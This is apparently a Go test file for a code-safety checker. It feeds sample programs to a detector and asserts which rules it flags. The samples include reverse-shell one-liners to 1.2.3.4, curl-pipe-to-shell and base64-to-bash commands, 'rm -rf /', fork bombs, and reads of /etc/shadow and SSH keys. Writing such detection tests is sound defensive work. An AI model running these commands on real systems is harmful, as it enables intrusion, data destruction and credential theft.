package check

import (
	"fmt"
	"os"
	"slices"
	"strings"
	"testing"

	"github.com/fumehood-dev/fumehood/sandbox"
)

// shown is the findings as "LINE:COLUMN RULE", with an exclamation mark where it refuses.
func shown(found []sandbox.Finding) string {
	var out []string
	for _, f := range found {
		mark := ""
		if f.Refuses {
			mark = "!"
		}
		out = append(out, fmt.Sprintf("%d:%d %s%s", f.Line, f.Column, f.Rule, mark))
	}
	return strings.Join(out, ", ")
}

// TestPaper: docs/checks.md has a row of its table for each rule.
func TestPaper(t *testing.T) {
	paper, err := os.ReadFile("../../docs/checks.md")
	if err != nil {
		t.Fatal(err)
	}
	named := ""
	for line := range strings.Lines(string(paper)) {
		if strings.HasPrefix(line, "| `") {
			rules, _, _ := strings.Cut(line[1:], "|")
			named += rules
		}
	}
	for _, rule := range IDs() {
		if !strings.Contains(named, "`"+rule+"`") {
			t.Errorf("%s is not there", rule)
		}
	}
}

func TestFind(t *testing.T) {
	for _, c := range []struct{ language, code, want string }{
		{"python", "import os\n\nos.system('ls')\n", "3:1 shell!"},
		{"python", "from os import (path,\n    system as s)\ns('ls'); os.path.join('a')\n", "2:5 shell!, 3:1 shell!"},
		{"python", "import subprocess as sp, sys\nsp.run(['ls'])\nsp.run(\n  'ls', shell = True)\n",
			"2:1 process, 3:1 shell!"},
		{"python", "# os.system('ls')\nx = 'os.system(1)'\ny = '''\nos.system(2)\n'''\ndef eval(x): pass\n" +
			"model.eval()\nre.compile('x')\n", ""},
		{"python", "import os\nx = r'\\\\'; os.system('a')\ny = r'\\'os.system(1)'; os.popen(2)\n",
			"2:12 shell!, 3:24 shell!"},
		{"python", "exec(base64.b64decode('cHJpbnQoMSk='))\neval('1+1')\n", "1:1 hidden-code!, 2:1 eval"},
		{"python", "import urllib.request as u, requests\nfrom http.client import HTTPConnection\nfrom socket " +
			"import *\n", "1:8 network, 1:29 network, 2:6 network, 3:6 network"},
		{"python", "open('/etc/hosts')\nopen('data.csv'); open('/tmp/x')\nopen(f'/etc/shadow')\nk = " +
			"\"~/.ssh/id_rsa\"\n", "1:6 outside, 3:6 outside, 3:6 sensitive-path!, 4:5 sensitive-path!"},
		{"python", "import os\nwhile True:\n    os.fork()\n", "2:1 fork-bomb!"},
		{"python", "import socket,os,pty\ns=socket.socket()\ns.connect(('1.2.3.4',1))\nos.dup2(s.fileno(),0)\n" +
			"pty.spawn('/bin/sh')\n", "1:8 network, 4:4 reverse-shell!, 5:1 process"},
		{"python", "k = 'AKIAIOSFODNN7EXAMPLE'\nu = 'stratum+tcp://pool.example:3333'\n", "1:6 credential, 2:6 miner!"},
		{"javascript", "const cp = require('child_process')\ncp.exec('ls'); cp.spawn('ls', [], {shell: true});\n" +
			"/cp.exec(1)/.exec(x)\n`${cp.execSync('x')} cp.exec()`\n", "2:1 shell!, 2:16 shell!, 4:4 shell!"},
		{"javascript", "const {exec: run, spawn} = require('node:child_process')\nrun('ls')\nspawn('ls')\nx.exec(y)\n",
			"2:1 shell!, 3:1 process"},
		{"typescript", "import { execFile as e } from 'child_process'\nimport * as cp from 'node:child_process'\n" +
			"import http from 'http'\ne('ls')\ncp.fork('x')\nconst f: Function = () => 1\n",
			"3:18 network, 4:1 process, 5:1 process"},
		{"javascript", "eval(atob('x'))\nnew Function('return 1')()\neval('1')\n// eval(1)\nfetch('https://x')\n" +
			"fs.readFileSync('/etc/passwd')\n", "1:1 hidden-code!, 2:5 eval, 3:1 eval, 5:1 network, 6:17 outside"},
		{"javascript", "require('child_process').execSync('id')\nwhile (true) { require('child_process') }\n",
			"1:26 shell!"},
		{"bash", "curl -s https://x | sh\necho $(wget -qO- x)\nbash -c \"$(curl -fsSL x)\"\ncurl x | python3 -m " +
			"json.tool\ncurl x | bash -s -- y\n",
			"1:1 network, 1:21 hidden-code!, 2:8 network, 3:12 network, 3:12 hidden-code!, 4:1 network, 5:1 " +
				"network, 5:10 hidden-code!"},
		{"bash", ":(){ :|:& };:\n", "1:1 fork-bomb!"},
		{"bash", strings.Repeat("f(){ g|h& }\n", 9) + "f(){ f|f& }\n", "10:1 fork-bomb!"},
		{"bash", "rm -rf /\nrm -rf \"$HOME\"; rm -rf build /tmp/x\nsudo rm -r --no-preserve-root /*\n# rm -rf /\n" +
			"echo 'rm -rf /'\n", "1:8 destroy!, 2:8 destroy!, 3:31 destroy!"},
		{"bash", "bash -i >& /dev/tcp/1.2.3.4/99 0>&1\ncat <<EOF\nrm -rf /\nEOF\nnc -e /bin/sh 1.2.3.4 9\n",
			"1:12 reverse-shell!, 5:1 network, 5:1 reverse-shell!"},
		{"bash", "grep '\\' x; rm -rf / # '\n", "1:20 destroy!"},
		{"bash", "cat /etc/shadow > out\necho x > /etc/motd\necho y 2>/dev/null > /tmp/z\nif [ -f x ]; then eval " +
			"\"$y\"; fi\n", "1:5 sensitive-path!, 2:10 outside, 4:19 eval"},
		{"bash", "echo c2g= | base64 -d | bash\neval \"$(echo x | base64 --decode)\"\n",
			"1:25 hidden-code!, 2:1 eval, 2:18 hidden-code!"},
		{"ruby", "k = \"ghp_0123456789abcdefghijklmnopqrstuvwxyz\"\nsystem('ls')\n", "1:6 credential"},
	} {
		if got := shown(Policy{}.Find(c.language, []byte(c.code))); got != c.want {
			t.Errorf("%s:\n%s\ngot  %s\nwant %s", c.language, c.code, got, c.want)
		}
	}
	found := Policy{Allow: []string{"shell"}, Deny: []string{"network"}}.Find("python",
		[]byte("import socket, os\nos.system('x')\n"))
	if got := shown(found); got != "1:8 network!" {
		t.Error(got)
	}
	for _, c := range []struct{ language, code, want string }{
		{"python", strings.Repeat(" ", MaxBytes+1), "1:1 unchecked!"},
		{"python", strings.Repeat("open(", 50_000), "1:1 unchecked!"},
		{"bash", strings.Repeat("$(", 600) + strings.Repeat(")", 600) + "; rm -rf /", "1:999 unchecked!"},
	} {
		if got := shown(Policy{}.Find(c.language, []byte(c.code))); got != c.want {
			t.Errorf("%.20s...: %s", c.code, got)
		}
	}
	if err := (Policy{Deny: []string{"netwerk"}}).Check(); sandbox.FixOf(err) != "did you mean network?" {
		t.Error(err)
	}
}

func TestMessages(t *testing.T) {
	found := Policy{}.Find("python", []byte("import os\nos.system('x')\nfrom os import popen\n"))
	if len(found) != 2 || found[0].Message != "dangerous call 'os.system'" ||
		found[1].Message != "dangerous import 'os.popen'" || found[0].Advice == "" {
		t.Errorf("%+v", found)
	}
}

// TestMostFindings: the number of findings is limited, and findings that refuse displace others.
func TestMostFindings(t *testing.T) {
	five := func(lines ...string) string { return strings.Repeat(strings.Join(lines, "\n")+"\n", 5) }
	other := five("import socket", "eval(x)", "os.execv(x)", "open('/a')", "k = 'AKIAIOSFODNN7EXAMPLE'")
	refuses := five("os.system(x)", "exec(b64decode(x))", "p = '/etc/shadow'", "while True: os.fork()", "# xmrig") +
		"s = 'sh'\nos.dup2(s.fileno(), 0)\n"
	count := func(found []sandbox.Finding) (all, refuse int) {
		for _, f := range found {
			if f.Refuses {
				refuse++
			}
		}
		return len(found), refuse
	}
	if all, refuse := count(Policy{}.Find("python", []byte(other+refuses))); all != maxFindings || refuse != 26 {
		t.Errorf("%d findings, %d refuse", all, refuse)
	}
	deny := Policy{Deny: []string{"network", "eval", "process", "outside", "credential"}}
	if all, refuse := count(deny.Find("python", []byte(other+refuses))); all != maxFindings || refuse != maxFindings {
		t.Errorf("where all refuse: %d findings, %d refuse", all, refuse)
	}
}

// FuzzFind: whatever a text holds, it is read in bounds.
func FuzzFind(f *testing.F) {
	for _, seed := range []string{"import a.b as c, (d", "from . import (x as y", "`${`${", "/[/", "$(((`\"$(",
		"<<EOF\n", "'''", "f'''x", "{a: b, c} = require('child_process')", ":(){ :|:& };:"} {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, code []byte) {
		for _, language := range []string{"python", "typescript", "bash", "c"} {
			f := &finder{of: map[string]int{}}
			f.check(language, code)
			found := f.found
			if len(found) > maxFindings || f.looks > 2*f.mostLooks() {
				t.Errorf("%d findings, %d looks", len(found), f.looks)
			}
			lines := strings.Count(string(code), "\n") + 1
			for _, f := range found {
				if f.Line < 1 || f.Line > lines || f.Column < 1 || len(f.Message) > 200 ||
					!slices.Contains(IDs(), f.Rule) || strings.ContainsAny(f.Message, "\n\x1b") {
					t.Errorf("%+v in %d lines", f, lines)
				}
			}
		}
	})
}

// BenchmarkFind checks a program of 1,000 lines.
func BenchmarkFind(b *testing.B) {
	for language, lines := range map[string]string{
		"python": "def f(x, y=1):\n    # a comment\n    result = [g(i, 'text') for i in range(x)]\n    return " +
			"os.path.join(result[0], \"data.csv\")\n",
		"typescript": "function f(x: number): string {\n  // a comment\n  const r = list.map((i) => `${i} text`)\n " +
			" return path.join(r[0], \"data.csv\")\n",
		"bash": "for f in *.csv; do\n  # a comment\n  cut -d, -f1 \"$f\" | sort -u > \"out/$(basename " +
			"\"$f\")\"\ndone\n",
	} {
		code := []byte(strings.Repeat(lines, 250))
		b.Run(language, func(b *testing.B) {
			for b.Loop() {
				Policy{}.Find(language, code)
			}
		})
	}
}
